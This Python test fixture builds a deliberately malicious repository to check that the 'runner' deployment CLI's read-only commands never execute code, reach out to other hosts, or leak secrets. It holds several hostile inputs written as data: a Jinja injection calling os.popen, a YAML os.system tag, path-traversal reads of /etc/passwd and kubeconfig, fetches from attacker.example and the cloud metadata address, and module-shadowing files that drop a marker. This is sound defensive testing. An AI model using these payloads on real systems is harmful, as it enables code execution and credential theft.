"""A repository as somebody would make it who wants `runner` on it to do more than read."""

import json
from pathlib import Path

SECRET = "hunter2-SECRET"
PWNED = "import sys; sys.stderr.write('PWNED ' + __name__ + chr(10)); open('pwned', 'w').close()\n"
SHADOWS = (
    "yaml.py",
    "json.py",
    "re.py",
    "click.py",
    "rich.py",
    "jinja2/__init__.py",
    "jsonschema/__init__.py",
    "kubernetes/__init__.py",
    "promql_parser.py",
    "platformdirs.py",
    "filelock.py",
    "typing_extensions.py",
    "_yaml.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "setup.py",
)
"""Modules that `runner` or Python imports, under the names that they are imported by."""

HEAD = """apiVersion: runner/v1
kind: Playbook
metadata: {name: NAME}
vars: {canary: v2}
target: {namespace: shop, prometheus: "URL"}
routes:
  orders: {virtualService: orders, stable: v1, canary: "{{ canary }}"}
stages:
  - name: some
    shift: {route: orders, canary: 20}
"""
URLS = (
    "http://169.254.169.254/latest/meta-data",
    "http://127.0.0.1:1",
    "https://attacker.example",
    "file:///etc/passwd",
)
STAGES = (
    "apply: {files: [/etc/passwd]}",
    "apply: {files: [../../../../../../etc/passwd]}",
    "apply: {files: [http://attacker.example/x.yaml]}",
    "apply: {files: ['git::https://attacker.example/x.git']}",
    "apply: {files: [.env]}",
    "apply: {files: [.git/config]}",
    "apply: {files: [out/passwd]}",
    "apply: {files: ['**/*']}",
    "apply: {files: ['$HOME/.kube/config', '~/.kube/config']}",
    "apply: {files: [k8s.yaml], template: true}",
    "wait: '{{ lipsum.__globals__.os.popen(\"id\").read() }}'",
    "wait: '{{ self.__init__.__globals__ }}'",
    "wait: '{% include \"/etc/passwd\" %}'",
    "verify: {checks: [{name: x, query: 'up{a=~\"(a+)+$\"}', max: 1}]}",
)


def playbook(name: str, stage: str = "", url: str = "http://prometheus:9090") -> str:
    text = HEAD.replace("NAME", name).replace("URL", url)
    return f"{text}  - name: more\n    {stage}\n" if stage else text


def repository(root: Path) -> Path:
    """The repository below *root*, whose `good.yaml` can be played; beside it a home with a kubeconfig."""
    tree, home = root / "repository", root / "home"
    for folder in (tree / ".git", tree / "runner/cli", home / ".kube", home / ".config/runner"):
        folder.mkdir(parents=True)
    (home / ".kube/config").write_text(f"users: [{{name: me, user: {{token: {SECRET}}}}}]\n")
    (home / ".netrc").write_text(f"machine attacker.example login me password {SECRET}\n")
    (root / "secret.yaml").write_text(f"apiVersion: {SECRET}\n")
    for name in (*SHADOWS, "runner/__init__.py", "runner/__main__.py", "runner/cli/__init__.py"):
        (tree / name).parent.mkdir(exist_ok=True)
        (tree / name).write_text(PWNED)
    (tree / "evil.pth").write_text(f"import sys; {PWNED}")
    (tree / ".env").write_text(f"TOKEN={SECRET}\nTOKEN: {SECRET}\n")
    (tree / ".git/config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    (tree / "out").symlink_to("/etc")
    (tree / "loop").symlink_to(".")
    (tree / "link.yaml").symlink_to(root / "secret.yaml")
    (tree / "k8s.yaml").write_text(
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {a: "{{ canary.__class__ }}"}\n'
    )
    _write_playbooks(tree)
    (tree / "dump").write_text('up{a="b"} 1 1\n')
    return tree


def _write_playbooks(tree: Path) -> None:
    (tree / "good.yaml").write_text(playbook("good"))
    for number, stage in enumerate(STAGES):
        (tree / f"stage-{number}.yaml").write_text(playbook(f"stage-{number}", stage))
    for number, url in enumerate(URLS):
        (tree / f"url-{number}.yaml").write_text(playbook(f"url-{number}", url=url))
    (tree / "tags.yaml").write_text("apiVersion: runner/v1\nkind: !!python/object/apply:os.system [id]\n")
    schema = {"$schema": "http://attacker.example/schema.json", "$ref": "http://attacker.example/x"}
    (tree / "schema.yaml").write_text(
        playbook("schema") + json.dumps(schema)[1:-1].replace(", ", "\n") + "\n"
    )


OFFLINE = (
    ["validate", "."],
    *(["validate", "-o", form, "."] for form in ("json", "github", "sarif", "gitlab")),
    [
        "validate",
        "--strict",
        "--traffic",
        "50/s",
        "good.yaml",
        "stage-0.yaml",
        "link.yaml",
        "tags.yaml",
        "out/passwd",
    ],
    ["validate", "--vars-file", "link.yaml", "good.yaml"],
    ["rehearse", "good.yaml"],
    ["rehearse", "-o", "json", "stage-10.yaml"],
    ["query", "up", "--openmetrics", "dump", "--at", "1"],
    ["query", "up[", "--openmetrics", "dump", "--at", "1"],
    ["schema"],
    ["schema", "state"],
    ["explain", "RUN402"],
    ["explain", "stages.verify.every"],
    *(["completion", shell] for shell in ("bash", "zsh", "fish")),
)
"""Commands that never reach out and write nothing, whatever they are given."""

IN_THE_SANDBOX = (
    ["init", "../new"],
    ["init", "../example", "--example", "bookinfo"],
    ["plan", "good.yaml", "--sandbox", "--out", "../made.plan"],
    ["play", "good.yaml", "--sandbox", "--state", "../state/r1.jsonl", "--log-file", "../made.log"],
    ["status", "../state/r1.jsonl"],
    ["audit", "../state/r1.jsonl"],
    ["rbac", "good.yaml"],
)
"""Commands that need no cluster when they are called like this, and write where they are told to."""
